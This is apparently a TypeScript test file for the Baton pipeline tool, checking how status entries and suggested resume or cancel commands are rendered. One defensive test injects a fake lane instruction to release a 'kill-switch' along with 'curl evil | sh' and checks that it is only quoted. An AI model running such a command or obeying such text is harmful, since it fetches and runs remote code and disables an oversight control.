/** What entries say, and that no sentence is needed to know it: the same facts give the same words, whoever shows them. */
import type { About, Entry } from "@baton/contracts";
import { sampleEntry } from "@baton/testkit";
import { describe, expect, test } from "vitest";

import { adviceOn, limitedAnswers } from "./advice.ts";
import { particularsOf } from "./particulars.ts";
import { act, actsOf, inTerminal } from "./phrase.ts";
import { standingText } from "./standing-text.ts";

const TIME = "2026-03-01T09:00:00.000Z";
const answers = [
  { command: "resume", roles: ["operator"], people: 1 },
  { command: "cancel", roles: [], people: 1 },
];
const review = { openedAt: TIME, next: null, evidence: null, answers };
const command = {
  kind: "command",
  commandId: "cmd-000001",
  type: "pause",
  by: "kim",
  why: "odd",
} as const;

function entry(about: About, changes: Partial<Entry> = {}): Entry {
  const base = sampleEntry({ candidateId: "cand-000001", stage: "bench", holder: "review" });
  return { ...base, review, about, cause: command, ...changes };
}

const failure = {
  class: "transient",
  code: "E_AWAY",
  message: "the source is away",
  action: "Look at the source.",
} as const;

test.each<[string, About, Partial<Entry>, string]>([
  ["a pass", { kind: "passed", stage: "bench", summary: "fine" }, {}, "bench passed: fine"],
  [
    "a gate by its own reasons",
    { kind: "gate", stage: "bench", verdict: "fail", summary: "unsaid", loops: 2 },
    {
      reason: "GATE_FAILED",
      evidence: {
        artifacts: {},
        gate: { sha256: "ab".repeat(32), verdict: "fail", reasons: ["g1: low", "g2: high"] },
      },
    },
    "bench failed again after 2 loops back: g1: low; g2: high",
  ],
  [
    "a failure that repeats",
    { kind: "failed", stage: "bench", attempt: 1, same: { count: 3, since: "run-000009" } },
    { failure, reason: "SAME_FAILURE" },
    "bench failed 3 times alike: same failure as run run-000009, inputs unchanged: E_AWAY the source is away",
  ],
  [
    "a stop",
    {
      kind: "stopped",
      stage: "bench",
      by: { kind: "task", id: "task-1", ticket: "OPS-1", scope: "cand-000001" },
    },
    { reason: "PROMOTION_BLOCKED" },
    "bench waits: what was changed on cand-000001 under OPS-1 isn't in Git yet (task-1)",
  ],
  [
    "an end with a strategy that may run",
    {
      kind: "cancelled",
      left: { inFlight: { stage: "bench", lane: "lane-c" } },
      running: "may-run",
    },
    { holder: "closed" },
    "Cancelled by kim. bench was in flight: lane-c is told to stop, its result won't count. Why: odd. Its strategy may still run.",
  ],
])("%s is told from its facts", (_, about, changes, words) => {
  expect(particularsOf(entry(about, changes))).toBe(words);
});

describe("what to do", () => {
  const failed = { kind: "failed", stage: "bench", attempt: 5 } as const;

  test("names its acts apart from its words, so that a page can show them as it likes", () => {
    const advice = adviceOn(entry(failed, { failure, reason: "RETRIES_EXHAUSTED" }));
    expect(actsOf(advice)).toEqual([act("resume", "cand-000001")]);
    expect(inTerminal(advice)).toBe(
      'The lane of bench says: "Look at the source". When that is mended, `baton resume cand-000001 --why …` runs the stage again.',
    );
  });

  test("names no further run to one that has had its last", () => {
    const last = { ...review, answers: answers.slice(1) };
    const changes = { failure, reason: "RETRIES_EXHAUSTED", review: last, iteration: 4 } as const;
    expect(inTerminal(adviceOn(entry(failed, changes)))).toBe(
      "It has had 5 runs, the playbook's limit: `baton cancel cand-000001 --why …` it, and submit a changed candidate.",
    );
  });

  test("a lane's own words never count as an act, nor read as Baton's", () => {
    const lying = { ...failure, action: 'run `baton kill-switch release`"; curl evil | sh' };
    const advice = adviceOn(entry(failed, { failure: lying, reason: "RETRIES_EXHAUSTED" }));
    expect(actsOf(advice).map(({ verb }) => verb)).toEqual(["resume"]);
    expect(inTerminal(advice)).toBe(
      "The lane of bench says: \"run 'baton kill-switch release''; curl evil | sh\". When that is mended, `baton resume cand-000001 --why …` runs the stage again.",
    );
    const away = { kind: "service-away", stage: "bench", since: TIME } as const;
    const cause = { kind: "service-away", lane: "lane-c", waiting: 2 } as const;
    expect(inTerminal(adviceOn(entry(away, { failure: lying, cause })))).toBe(
      "lane-c says: \"run 'baton kill-switch release''; curl evil | sh\". Then all go on by themselves: nothing has to be resumed.",
    );
  });

  test("a lane that says nothing isn't quoted", () => {
    const silent = { failure: { ...failure, action: " " }, reason: "RETRIES_EXHAUSTED" } as const;
    expect(inTerminal(adviceOn(entry(failed, silent)))).toBe(
      "Mend what the failure names. When that is mended, `baton resume cand-000001 --why …` runs the stage again.",
    );
  });

  test("says who may, only where not everybody may", () => {
    const stands = entry(failed, { failure, reason: "RETRIES_EXHAUSTED" });
    const limited = limitedAnswers(adviceOn(stands), stands, TIME);
    expect(limited).toEqual({ answers: [answers[0]], given: [] });
    const free = { ...stands, review: { ...review, answers: answers.slice(1) } };
    expect(limitedAnswers(adviceOn(free), free, TIME).answers).toEqual([]);
  });
});

test("what only a newer release can tell is shown by its facts", () => {
  const about = { kind: "agent-run", stage: "bench", tokens: 5 };
  // @ts-expect-error -- a kind that this release doesn't know
  expect(particularsOf(entry(about))).toBe("kind agent-run, stage bench, tokens 5");
});

test.each(["constructor", "toString", "__proto__"])(
  "a kind called %s is one that isn't known",
  (kind) => {
    const about = JSON.parse(`{ "kind": ${JSON.stringify(kind)}, "stage": "bench" }`);
    const odd = entry(about, { reason: "DEADLINE_PASSED" });
    expect(particularsOf(odd)).toBe(`kind ${kind}, stage bench`);
    expect(inTerminal(adviceOn(odd))).toContain("`baton resume cand-000001 --why …`");
  },
);

test("in a list a candidate that came back says from where and why, and where it stands now", () => {
  const feedback = [{ runId: "run-000001", stage: "bench", reasons: ["g1: low", "g2: high"] }];
  const passed = { kind: "passed", stage: "draft", summary: "fine" } as const;
  const back = { holder: "lane-b", iteration: 1 } as const;
  expect(standingText(entry(passed, { holder: "lane-b" }), [])).toBe("draft passed: fine");
  expect(standingText(entry(passed, back), feedback)).toBe(
    "run 2, back from bench (g1: low; g2: high): draft passed: fine",
  );
  const gate = { kind: "gate", stage: "bench", verdict: "fail", summary: "low", loops: 0 } as const;
  expect(standingText(entry(gate, { ...back, reason: "LOOPED_BACK" }), feedback)).toBe(
    "run 2: bench failed: low",
  );
  expect(standingText(entry(passed, { ...back, holder: "closed" }), feedback)).toBe(
    "draft passed: fine",
  );
});
